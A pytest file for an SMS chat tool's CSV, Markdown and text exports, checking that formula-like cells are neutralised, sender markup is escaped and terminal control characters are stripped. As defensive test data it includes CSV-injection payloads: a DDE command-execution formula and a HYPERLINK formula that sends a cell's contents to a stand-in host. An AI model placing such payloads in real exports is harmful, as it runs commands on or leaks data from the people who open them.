"""What leaves for other programs: no formula in a table, no markup of a stranger, and every SMS once."""

from __future__ import annotations

import csv
import io
import string
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smschat.cli import output
from smschat.cli.formats import COLUMNS, FORMATS, cell, escaped
from smschat.domain.conversation import Conversation
from smschat.domain.delivery import Status
from smschat.domain.sms import Direction, Encoding, Sms, SmsType
from tests.store.samples import NOON, OTHER_PEER, OWN_NUMBER, PEER

if TYPE_CHECKING:
    from collections.abc import AsyncIterator


def sms(text: str, *, days: int = 0, peer: str = PEER, is_outbound: bool = False) -> Sms:
    return Sms(
        id="8" * 32,
        seq=1,
        revision=1,
        direction=Direction.OUTBOUND if is_outbound else Direction.INBOUND,
        peer=peer,
        sender=OWN_NUMBER if is_outbound else peer,
        recipient=peer if is_outbound else OWN_NUMBER,
        type=SmsType.TEXT,
        text=text,
        encoding=Encoding.GSM7,
        segments=1,
        status=Status.DELIVERED if is_outbound else Status.RECEIVED,
        created_at=NOON + timedelta(days=days),
        updated_at=NOON,
    )


async def written(how: str, *conversations: tuple[str, list[Sms]]) -> str:
    async def pages() -> AsyncIterator[tuple[Conversation, list[Sms]]]:
        for name, page in conversations:
            row = Conversation(peer=page[0].peer, name=name, activity=1, revision=1)
            yield row, page[:1]
            yield row, page[1:]

    return "".join([piece async for piece in FORMATS[how](pages())])


FORMULAS = [
    "=1+1",
    "+31611111111",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\0=1",
    "＝1",  # noqa: RUF001 - a spreadsheet takes it for the narrow one
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("https://x.example?"&A1,"ok")',
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    rows = list(csv.reader(io.StringIO(await written("csv", (text, [sms(text)])), newline="")))
    assert rows[0] == list(COLUMNS)
    assert (rows[1][4], rows[1][8]) == (f"'{text}", f"'{text}")
    assert rows[1][3] == PEER


@given(text=st.text(st.sampled_from("=+-@\t\r\n;,\"'a1 é😀"), max_size=12))
async def test_a_table_holds_each_text_whole(text: str) -> None:
    rows = list(csv.reader(io.StringIO(await written("csv", ("", [sms(text)])), newline="")))
    assert len(rows) == 2
    assert rows[1][8] in {text, f"'{text}"}
    assert not rows[1][8].lstrip().startswith(("=", "+", "-", "@"))


def test_a_plain_cell_is_left_alone() -> None:
    assert cell("see you at 8 = ok") == "see you at 8 = ok"


async def test_markdown_has_a_heading_for_each_conversation_and_day() -> None:
    text = await written(
        "md",
        ("Anna", [sms("hi"), sms("two\nlines", days=1, is_outbound=True)]),
        ("", [sms("yo", peer=OTHER_PEER)]),
    )
    lines = text.splitlines()
    assert [line for line in lines if line.startswith("# ")] == [f"# Anna ({PEER})", f"# {OTHER_PEER}"]
    assert [line.split()[-1] for line in lines if line.startswith("## ")] == ["2026-01-31", "2026-02-01", "2026-01-31"]
    assert "→ two\\\n  lines *delivered*" in text


@pytest.mark.parametrize(
    "text",
    ["<script>", "**bold**", "[a](http://x)", "# head", "1. one", "- item", "`code`", "https://x.example", "a@b.nl"],
)
def test_no_mark_of_a_stranger_is_left_to_render(text: str) -> None:
    said = escaped(text)
    for place, character in enumerate(said):
        if character in set(string.punctuation) - set(",?'\";/%\\"):
            assert said[place - 1] == "\\"
    assert said.replace("\\", "") == text


def test_an_indented_line_is_no_block_of_code() -> None:
    assert escaped("    code") == "\N{NO-BREAK SPACE}" * 4 + "code"


async def test_text_is_as_it_is_read_and_passes_the_gate() -> None:
    one = sms("a\x1b[2J\u202eb")
    assert await written("txt", ("Anna", [one])) == output.sms_line(one) + "\n"
    for how in ("txt", "md"):
        assert not {"\x1b", "\u202e"} & set(await written(how, ("\u202eAnna", [one])))
